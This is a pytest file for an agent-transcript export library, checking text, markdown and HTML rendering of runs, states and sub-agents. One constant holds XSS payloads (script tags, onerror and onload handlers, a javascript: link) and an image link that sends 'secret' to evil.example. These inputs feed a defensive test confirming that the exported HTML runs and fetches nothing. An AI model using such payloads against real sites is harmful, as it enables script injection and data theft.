"""Export: the transcript without a kernel, readable everywhere, in which nothing runs and nothing is fetched."""

from __future__ import annotations

import re
from dataclasses import replace
from datetime import UTC, datetime
from html.parser import HTMLParser
from typing import Any

import pytest

from agent_widgets.export import PLAIN_LIMIT, static_bundle, summary, to_html, to_markdown, to_text
from agent_widgets.messages import (
    Base64Source,
    Block,
    DataBlock,
    ErrorInfo,
    HintBlock,
    JsonObject,
    Msg,
    TextBlock,
    ThinkingBlock,
    ToolCallBlock,
    ToolResultBlock,
    URLSource,
    Usage,
)
from agent_widgets.printed import ToolOutput
from agent_widgets.transcript import Child, Transcript
from agent_widgets.wire import RunView

CALL = ToolCallBlock(id="c", name="find", input='{"word": "tea"}', state="finished")
RESULT = ToolResultBlock(id="c", name="find", output="page 2", state="success")
PRINTED = ToolOutput(call_id="c", name="stdout", text="looking\nfound\n")
ANSWER: tuple[Block, ...] = (ThinkingBlock("two hits"), CALL, RESULT, TextBlock("It is **there**."))


def view(
    *blocks: Block, prompt: str = "where?", state: str = "completed", outputs: tuple[ToolOutput, ...] = (), **message: object
) -> RunView:
    said = replace(Msg("bob", blocks, "assistant"), **message)  # pyright: ignore[reportArgumentType]
    status: JsonObject = {"state": state, "elapsed": 1.25}
    return RunView(run_id="r", prompt=prompt, status=status, transcript=Transcript(message=said, model="gpt", outputs=outputs))


class Tags(HTMLParser):
    """The elements and attributes of a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str | None]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += attrs


def test_as_text_a_run_is_its_prompt_its_steps_and_how_it_ended() -> None:
    assert to_text(view(*ANSWER, outputs=(PRINTED,), usage=Usage(input_tokens=1200, output_tokens=34))).split("\n") == (
        [
            "> where?",
            "",
            "(thought: two hits)",
            "",
            'find({"word": "tea"})',
            "  | looking",
            "  | found",
            "  success: page 2",
            "",
            "It is **there**.",
            "",
            "[bob · done · gpt · 1,200 tokens in, 34 out · 1.2 s]",
        ]
    )


def test_as_markdown_the_answer_is_its_own_markdown_and_tools_are_fenced() -> None:
    parts = to_markdown(view(CALL, RESULT, TextBlock("It is **there**."), prompt="one\ntwo")).split("\n\n")
    assert parts[0] == "> one\n> two"
    assert parts[1] == '```text\nfind({"word": "tea"})\n```'
    assert parts[-2:] == ["It is **there**.", "*bob · done · gpt · 1.2 s*"]


def test_a_fence_in_a_result_does_not_end_the_fence_around_it() -> None:
    result = replace(RESULT, output="```\n<script>alert(1)</script>")
    fenced = to_markdown(view(CALL, result))
    assert fenced.count("```") == 4


def test_as_html_the_markdown_is_rendered_and_thinking_is_folded_away() -> None:
    page = to_html([view(*ANSWER)], "abc")
    assert page.startswith('<div class="aw-static aw-run-abc aw-at-0">')
    assert "It is <strong>there</strong>." in page
    assert "<details><summary>Thought</summary><pre>two hits</pre></details>" in page
    assert "<blockquote>where?</blockquote>" in page


HOSTILE = "<script>alert(1)</script><img src=x onerror=alert(1)>\"'><svg onload=alert(1)> [x](javascript:alert(1)) ![p](https://evil.example/?q=secret)"


@pytest.mark.parametrize(
    "hostile",
    [
        view(TextBlock(HOSTILE)),
        view(ThinkingBlock(HOSTILE)),
        view(HintBlock(HOSTILE)),
        view(replace(CALL, name=HOSTILE, input=HOSTILE)),
        view(CALL, replace(RESULT, output=HOSTILE)),
        view(CALL, replace(RESULT, output=(TextBlock(HOSTILE), DataBlock(URLSource("https://evil.example/a.png", "image/png"))))),
        view(CALL, replace(RESULT, metadata={"reason": HOSTILE})),
        view(CALL, outputs=(replace(PRINTED, text=HOSTILE),)),
        view(CALL, outputs=(ToolOutput(call_id="c", name="display", data={"text/html": HOSTILE, "text/plain": HOSTILE}),)),
        view(DataBlock(URLSource("https://evil.example/a.png", "image/png"), HOSTILE)),
        view(DataBlock(Base64Source('AAAA" onerror="alert(1)', "image/png"), HOSTILE)),
        view(DataBlock(Base64Source("AAAA", "image/svg+xml"), HOSTILE)),
        view(DataBlock(Base64Source("AAAA", HOSTILE), HOSTILE)),
        view(prompt=HOSTILE),
        view(
            name=HOSTILE,
            error=ErrorInfo(type=HOSTILE, message=HOSTILE),
            metadata={"reason": HOSTILE, "source": HOSTILE},
            finished_reason="error",
        ),
        view(state=HOSTILE),
    ],
)
def test_nothing_in_the_html_runs_and_nothing_is_fetched(hostile: RunView) -> None:
    page = Tags(to_html([hostile], "abc"))
    assert page.tags <= {"div", "style", "blockquote", "p", "i", "pre", "details", "summary", "img", "em", "strong", "a", "code"}
    for name, value in page.attributes:
        assert name in {"class", "src", "alt", "href"}, (name, value)
        if name == "src":
            assert re.match(r"data:image/(png|jpeg|gif|webp);base64,", value or ""), value
        if name == "href":
            assert re.match(r"https?:", value or ""), value


def test_images_are_shown_in_html_and_named_in_text() -> None:
    image = DataBlock(Base64Source("AAAA", "image/png"), "plot.png")
    assert '<img alt="plot.png" src="data:image/png;base64,AAAA">' in to_html([view(image)], "abc")
    shown = replace(RESULT, output=(DataBlock(Base64Source("BBBB", "image/png")),))
    assert '<img alt="image" src="data:image/png;base64,BBBB">' in to_html([view(CALL, shown)], "abc")
    assert "[image/png]" in to_text(view(image))


def test_a_call_that_waits_says_so() -> None:
    assert 'find({"word": "tea"}) <- waits for a decision' in to_text(view(replace(CALL, state="asking"), state="paused"))


@pytest.mark.parametrize(
    ("state", "message", "words"),
    [
        ("completed", {}, "bob · done"),
        ("running", {}, "bob · had not ended"),
        ("paused", {}, "bob · waited for a decision"),
        ("queued", {}, "bob · had not begun"),
        ("exceed_max_iters", {}, "bob · stopped: too many steps"),
        (
            "interrupted",
            {"metadata": {"source": "user", "stop_ms": 12.6, "reason": "lunch"}},
            "bob · stopped by you after 13 ms (lunch)",
        ),
        ("interrupted", {"metadata": {"source": "deadline"}}, "bob · stopped at its deadline"),
        ("interrupted", {}, "bob · stopped"),
        ("error", {"error": ErrorInfo(type="connection", message="gone")}, "bob · failed · gone"),
        ("new one", {}, "bob · new one"),
    ],
)
def test_the_summary_says_how_it_ended_and_why(state: str, message: dict[str, Any], words: str) -> None:
    assert summary(view(state=state, **message)) == f"{words} · gpt · 1.2 s"


@pytest.mark.parametrize(
    ("usage", "words"),
    [
        (Usage(input_tokens=1, output_tokens=2), "1 tokens in, 2 out"),
        (Usage(unknown_calls=1), "tokens unknown"),
        (Usage(input_tokens=1, output_tokens=2, unknown_calls=1), "1 tokens in, 2 out (and more, not reported)"),
    ],
)
def test_unknown_usage_is_never_shown_as_nought(usage: Usage, words: str) -> None:
    assert f" · {words} · " in summary(view(usage=usage))


def test_the_bundle_is_the_whole_transcript_once_as_html_and_its_beginning_as_text() -> None:
    short = static_bundle([view(TextBlock("a"), prompt="first"), view(TextBlock("b"), prompt="second")], "abc")
    assert set(short) == {"text/html", "text/plain"}
    assert short["text/plain"] == "\n\n".join(
        to_text(one) for one in (view(TextBlock("a"), prompt="first"), view(TextBlock("b"), prompt="second"))
    )
    long = static_bundle([view(TextBlock("x" * 10_000 + "the end"))], "abc")
    assert "the end" in long["text/html"]
    assert len(long["text/plain"]) < PLAIN_LIMIT + 100
    assert re.search(r"\[9,\d\d\d characters more in the HTML output\]$", long["text/plain"])


@pytest.mark.parametrize("state", ["queued", "running", "stopping", "paused"])
def test_what_had_not_ended_says_when_it_was_written_and_never_that_it_goes_on(state: str) -> None:
    written = datetime(2026, 11, 30, 12, 3, tzinfo=UTC)
    bundle = static_bundle([view(TextBlock("a"), state=state)], "abc", 7, session="orders", written=written)
    for text in bundle.values():
        assert "Written on 2026-11-30 at 12:03 UTC, before the run had ended." in text
        assert "%agent show orders" in text
        assert not re.search(r"\b(is|running|waiting|stopping)\b", text.replace("is not in this file", ""))
    assert 'class="aw-static aw-run-abc aw-at-7"' in bundle["text/html"]


@pytest.mark.parametrize("state", ["completed", "interrupted", "exceed_max_iters", "error"])
def test_what_has_ended_says_nothing_of_the_time_of_writing(state: str) -> None:
    assert "Written" not in "".join(static_bundle([view(TextBlock("a"), state=state)], "abc").values())


def test_a_transcript_that_is_nobodys_twin_hides_nothing_and_is_not_hidden() -> None:
    page = static_bundle([view(TextBlock("a"))])["text/html"]
    assert page.startswith('<div class="aw-static"><style>.aw-static {')
    assert "display: none" not in page


def family(state: str = "success", output: str = "Both are tidy.") -> RunView:
    """A call of a sub-agent, which has called a tool of its own."""
    below = Transcript(
        message=Msg("helper", (TextBlock("I *look* <b>."), CALL, RESULT), "assistant", finished_reason="completed")
    )
    given = ToolResultBlock(id="c", name="helper", output=output, state=state)  # pyright: ignore[reportArgumentType]
    calls = (replace(CALL, name="helper", input='{"task": "Tidy."}'), given, TextBlock("Done."))
    shown = view(*calls)
    return replace(shown, transcript=replace(shown.transcript, children=(Child(call_id="c", transcript=below),)))


def test_what_a_sub_agent_did_stands_below_its_call_and_its_answer_is_not_said_twice() -> None:
    assert to_text(family()).split("\n")[2:9] == [
        'helper({"task": "Tidy."})',
        "  : helper · done",
        "  : I *look* <b>.",
        "  :",
        '  : find({"word": "tea"})',
        "  :   success: page 2",
        "  success",
    ]
    page = to_html([family()], "x")
    assert "<details open><summary>helper · done</summary><blockquote><p>I <em>look</em> &lt;b&gt;.</p>" in page
    assert "<b>" not in page
    assert "Both are tidy." not in page


def test_why_a_sub_agent_failed_is_said() -> None:
    assert "helper failed: no connection" in to_text(family("error", "helper failed: no connection"))


def test_what_a_person_said_and_changed_is_told_and_so_is_what_was_not_sent() -> None:
    changed = replace(CALL, original_input='{"word": "<b>"}')
    told = view(changed, RESULT, HintBlock("and <i>now</i>?", "user"), TextBlock("Here."))
    told = replace(told, transcript=replace(told.transcript, notices=("Not sent: “<u>”",)))
    for said in (to_text(told), to_markdown(told)):
        assert 'changed by a person; the model had asked for {"word": "<b>"}' in said
        assert "> and <i>now</i>?" in said
        assert "Not sent: “<u>”" in said
    page = to_html([told], "x")
    assert "<blockquote>and &lt;i&gt;now&lt;/i&gt;?</blockquote>" in page
    assert not {"b", "u"} & Tags(page).tags


def test_a_call_that_is_done_outside_waits_for_a_result() -> None:
    call = replace(CALL, state="submitted")
    assert 'find({"word": "tea"}) <- waits for a result' in to_text(view(call, state="paused"))
    limited = replace(call, answer_by="2026-01-02T03:05:06.123456+00:00")
    assert "<- waits for a result until 2026-01-02 03:05:06 UTC" in to_text(view(limited, state="paused"))
